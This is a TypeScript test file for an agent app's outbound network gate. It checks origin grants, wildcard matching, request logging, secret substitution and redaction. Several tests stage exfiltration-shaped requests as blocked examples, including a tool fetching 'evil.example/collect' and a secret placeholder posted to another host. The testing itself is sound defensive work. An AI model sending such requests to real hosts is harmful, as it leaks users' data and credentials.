import { describe, expect, it } from 'vitest';
import { TabagentError } from '../../../src/core/errors';
import { createNetworkDoor } from '../../../src/net/door';
import { createMemoryLedgerStore, createNetworkLedger } from '../../../src/net/ledger';
import { createNetworkPolicy, originMatches, type Grant } from '../../../src/net/policy';
import type { SecretValue } from '../../../src/net/types';
import { bodyOf } from '../../support/fake-fetch';

const KEY: SecretValue = { id: 'api', label: 'Partner key', value: 'pk-live-SECRET-123456', origins: ['https://api.partner.example'] };
const TOKEN: SecretValue = { id: 'tok', label: 'Bot token', value: 'tok/with+odd"chars', origins: ['https://api.partner.example'] };

interface Sent {
  url: string;
  method: string;
  headers: Record<string, string>;
  body: string;
  redirect: RequestRedirect;
}

/** A door over a recording fake network; `answer` decides each response. */
function setup(
  options: {
    strict?: boolean;
    grants?: Grant[];
    secrets?: SecretValue[];
    answer?: (request: Request) => Response | Promise<Response>;
  } = {},
) {
  const sent: Sent[] = [];
  const state = { strict: options.strict ?? true };
  const policy = createNetworkPolicy({ strict: () => state.strict, sources: [() => options.grants ?? []] });
  const store = createMemoryLedgerStore();
  const ledger = createNetworkLedger(store);
  const secrets = options.secrets ?? [KEY, TOKEN];
  let clock = 1_000;
  const door = createNetworkDoor({
    policy,
    ledger,
    secrets: { get: (id) => secrets.find((secret) => secret.id === id), list: () => secrets },
    appOrigin: 'https://tabagent.app',
    now: () => (clock += 5),
    fetch: async (input, init) => {
      const request = new Request(input, init);
      sent.push({
        url: request.url,
        method: request.method,
        headers: Object.fromEntries(request.headers.entries()),
        body: request.body ? await request.clone().text() : '',
        redirect: request.redirect,
      });
      return options.answer ? options.answer(request) : new Response('ok');
    },
  });
  return { door, sent, store, ledger, policy, state };
}

const partner: Grant = { origin: 'https://api.partner.example', holder: 'tool:partner' };

async function blockedError(promise: Promise<unknown>): Promise<TabagentError> {
  try {
    await promise;
  } catch (error) {
    if (TabagentError.is(error)) return error;
    throw error;
  }
  throw new Error('expected the request to be blocked');
}

describe('network door: strict mode', () => {
  it('lets a granted origin through and records who it was granted to', async () => {
    const { door, sent, store, ledger } = setup({ grants: [partner] });
    const response = await door.fetch('https://api.partner.example/v1/items');
    expect(await response.text()).toBe('ok');
    await ledger.flush();
    expect(sent.map((request) => request.url)).toEqual(['https://api.partner.example/v1/items']);
    expect(store.records).toMatchObject([{ origin: 'https://api.partner.example', method: 'GET', outcome: 'allowed', requester: 'tool:partner', status: 200 }]);
  });

  it('blocks an origin nobody was granted, with a message naming it and how to allow it, and sends nothing', async () => {
    const { door, sent, store, ledger } = setup({ grants: [partner] });
    const error = await blockedError(door.as('tool:fetch_page')('https://evil.example/collect?d=1'));
    expect(error.code).toBe('network-blocked');
    expect(error.message).toContain('https://evil.example');
    expect(error.message).toMatch(/strict mode on the Network page/);
    expect(sent).toEqual([]);
    await ledger.flush();
    expect(store.records).toMatchObject([{ origin: 'https://evil.example', outcome: 'blocked', requester: 'tool:fetch_page', bytesSent: 0 }]);
  });

  it('allows (and still records) any origin when strict mode is off, and applies a toggle at once', async () => {
    const { door, sent, store, ledger, state } = setup({ strict: false });
    await door.fetch('https://anywhere.example/');
    state.strict = true;
    await expect(door.fetch('https://anywhere.example/again')).rejects.toMatchObject({ code: 'network-blocked' });
    await ledger.flush();
    expect(sent).toHaveLength(1);
    expect(store.records.map((entry) => entry.outcome)).toEqual(['allowed', 'blocked']);
  });

  it('honours a temporary grant only until it is withdrawn (a model download)', async () => {
    const { door, policy } = setup();
    const revoke = policy.grant(['https://huggingface.co', 'https://*.hf.co'], 'model download: tiny');
    await expect(door.fetch('https://cdn-lfs.hf.co/repo/file.onnx')).resolves.toBeInstanceOf(Response);
    revoke();
    await expect(door.fetch('https://huggingface.co/repo/config.json')).rejects.toMatchObject({ code: 'network-blocked' });
  });

  it('passes the app\'s own files without a ledger entry, and data: URLs untouched', async () => {
    const { door, store, ledger, sent } = setup();
    await door.fetch('https://tabagent.app/assets/index.js');
    await ledger.flush();
    expect(sent).toHaveLength(1);
    expect(store.records).toEqual([]);
  });

  it('blocks a redirect that lands on an origin nobody was granted', async () => {
    const { door, store, ledger } = setup({
      grants: [partner],
      answer: () => {
        const response = new Response('moved content');
        Object.defineProperty(response, 'redirected', { value: true });
        Object.defineProperty(response, 'url', { value: 'https://evil.example/landing' });
        return response;
      },
    });
    await expect(door.fetch('https://api.partner.example/r')).rejects.toMatchObject({ code: 'network-blocked' });
    await ledger.flush();
    expect(store.records[0]).toMatchObject({ outcome: 'blocked', origin: 'https://api.partner.example' });
  });

  it('matches wildcard grants only on subdomains, with the same scheme and port', () => {
    expect(originMatches('https://*.hf.co', 'https://cdn-lfs.hf.co')).toBe(true);
    expect(originMatches('https://*.hf.co', 'https://hf.co')).toBe(false);
    expect(originMatches('https://*.hf.co', 'http://cdn.hf.co')).toBe(false);
    expect(originMatches('https://*.hf.co', 'https://evilhf.co')).toBe(false);
    expect(originMatches('https://*.hf.co', 'https://cdn.hf.co:8443')).toBe(false);
    expect(originMatches('https://a.example', 'https://a.example')).toBe(true);
  });
});

describe('network door: ledger bytes and requester', () => {
  it('records bytes sent from the body and bytes received as the body is read', async () => {
    const { door, store, ledger } = setup({
      grants: [partner],
      answer: () => new Response(bodyOf(['0123456789', 'abcdefghij', 'XYZ']), { status: 201 }),
    });
    const body = JSON.stringify({ text: 'héllo' });
    const response = await door.as('engine')('https://api.partner.example/v1/chat', { method: 'POST', body });
    expect(await response.text()).toBe('0123456789abcdefghijXYZ');
    await ledger.flush();
    expect(store.records).toMatchObject([
      { method: 'POST', requester: 'engine', status: 201, bytesSent: new TextEncoder().encode(body).byteLength, bytesReceived: 23 },
    ]);
    expect(store.records[0]?.durationMs).toBeGreaterThan(0);
  });

  it('takes Content-Length until the body is read, then the counted size; a cancelled body is marked', async () => {
    const { door, store, ledger } = setup({
      grants: [partner],
      answer: () => new Response(bodyOf(['aaaa', 'bbbb', 'cccc', 'dddd']), { headers: { 'Content-Length': '16' } }),
    });
    const response = await door.fetch('https://api.partner.example/big');
    await ledger.flush();
    expect(store.records[0]?.bytesReceived).toBe(16);
    const reader = response.body!.getReader();
    await reader.read();
    await reader.cancel();
    await ledger.flush();
    // What actually arrived before the cancel (at most one chunk is read ahead), not the promised 16.
    expect(store.records[0]?.error).toBe('cancelled');
    expect(store.records[0]?.bytesReceived).toBeGreaterThanOrEqual(4);
    expect(store.records[0]?.bytesReceived).toBeLessThanOrEqual(8);
  });

  it('records a network failure with its message', async () => {
    const { door, store, ledger } = setup({
      grants: [partner],
      answer: () => {
        throw new TypeError('Failed to fetch');
      },
    });
    await expect(door.fetch('https://api.partner.example/x')).rejects.toThrow('Failed to fetch');
    await ledger.flush();
    expect(store.records[0]).toMatchObject({ outcome: 'allowed', error: 'Failed to fetch', bytesReceived: 0 });
  });

  it('never adds anything to the request to carry the requester', async () => {
    const { door, sent } = setup({ grants: [partner] });
    await door.as('tool:secret_name')('https://api.partner.example/x', { headers: { Accept: 'text/plain' } });
    expect(sent[0]?.headers).toEqual({ accept: 'text/plain' });
  });
});

describe('network door: secrets', () => {
  it('puts the value in a header, the URL and a JSON body only for a granted origin', async () => {
    const { door, sent } = setup({ grants: [partner] });
    await door.fetch('https://api.partner.example/v1?key={{secret:api}}&q=%7B%7Bsecret%3Atok%7D%7D', {
      method: 'POST',
      headers: { Authorization: 'Bearer {{secret:api}}', 'Content-Type': 'application/json' },
      body: JSON.stringify({ token: '{{secret:tok}}' }),
    });
    const request = sent[0]!;
    expect(request.headers.authorization).toBe(`Bearer ${KEY.value}`);
    expect(new URL(request.url).searchParams.get('key')).toBe(KEY.value);
    expect(new URL(request.url).searchParams.get('q')).toBe(TOKEN.value);
    expect(JSON.parse(request.body)).toEqual({ token: TOKEN.value });
    // Credentials must not follow a redirect to wherever the server points.
    expect(request.redirect).toBe('error');
  });

  it('blocks a request carrying a placeholder to any other origin, even a granted one, and names the secret by label only', async () => {
    const other: Grant = { origin: 'https://hooks.example', holder: 'tool:hook' };
    const { door, sent, store, ledger } = setup({ grants: [partner, other] });
    const error = await blockedError(door.fetch('https://hooks.example/in', { method: 'POST', body: 'k={{secret:api}}' }));
    expect(error.code).toBe('network-blocked');
    expect(error.message).toContain('"Partner key"');
    expect(error.message).toContain('https://api.partner.example');
    expect(error.message).not.toContain(KEY.value);
    expect(sent).toEqual([]);
    await ledger.flush();
    expect(store.records[0]).toMatchObject({ outcome: 'blocked', origin: 'https://hooks.example' });
  });

  it('blocks a placeholder for a secret that does not exist', async () => {
    const { door, sent } = setup({ grants: [partner] });
    await expect(door.fetch('https://api.partner.example/x', { headers: { 'X-Key': '{{secret:nope}}' } })).rejects.toMatchObject({
      code: 'network-blocked',
      message: expect.stringMatching(/does not exist/),
    });
    expect(sent).toEqual([]);
  });

  it('asks a secret source to refresh when it meets an id it does not know yet', async () => {
    const late: SecretValue[] = [];
    let refreshed = 0;
    const sent: string[] = [];
    const door = createNetworkDoor({
      policy: createNetworkPolicy({ strict: () => true, sources: [() => [partner]] }),
      ledger: createNetworkLedger(),
      secrets: {
        get: (id) => late.find((secret) => secret.id === id),
        list: () => late,
        refresh: async () => {
          refreshed += 1;
          late.push(KEY);
        },
      },
      fetch: async (input, init) => {
        sent.push(new Request(input, init).headers.get('x-key') ?? '');
        return new Response('ok');
      },
    });
    await door.fetch('https://api.partner.example/x', { headers: { 'X-Key': '{{secret:api}}' } });
    expect(refreshed).toBe(1);
    expect(sent).toEqual([KEY.value]);
  });

  it('redacts placeholders, secret values and credential-like query values in the ledger', async () => {
    const { door, store, ledger } = setup({ grants: [partner] });
    await door.fetch(`https://api.partner.example/v1?api_key={{secret:api}}&access_token=abc123&q=cats&raw=${KEY.value}`);
    await ledger.flush();
    const url = store.records[0]!.url;
    expect(url).not.toContain(KEY.value);
    expect(url).not.toContain('abc123');
    expect(url).toContain('q=cats');
    expect(url).toContain('api_key=[redacted]');
    expect(JSON.stringify(store.records)).not.toContain(KEY.value);
  });

  it('scrubs an echoed secret from the response body, even split across chunks', async () => {
    const value = KEY.value;
    const { door } = setup({
      grants: [partner],
      answer: () =>
        new Response(bodyOf([`{"echo":"${value.slice(0, 5)}`, `${value.slice(5, 12)}`, `${value.slice(12)}","ok":true}`]), {
          headers: { 'Content-Length': '999' },
        }),
    });
    const response = await door.fetch('https://api.partner.example/echo', { headers: { Authorization: 'Bearer {{secret:api}}' } });
    expect(response.headers.get('content-length')).toBeNull();
    const text = await response.text();
    expect(text).toBe('{"echo":"[redacted]","ok":true}');
  });

  it('scrubs secret values from a network error message, and `redact` removes them from any text', async () => {
    const { door } = setup({
      grants: [partner],
      answer: (request) => {
        throw new TypeError(`connection reset while sending ${request.headers.get('authorization')}`);
      },
    });
    const failure = await door.fetch('https://api.partner.example/x', { headers: { Authorization: 'Bearer {{secret:api}}' } }).catch((error: unknown) => error);
    expect(String((failure as Error).message)).not.toContain(KEY.value);
    expect(String((failure as Error).message)).toContain('[redacted]');
    expect(door.redact(`a ${KEY.value} b ${encodeURIComponent(TOKEN.value)}`)).toBe('a [redacted] b [redacted]');
  });
});
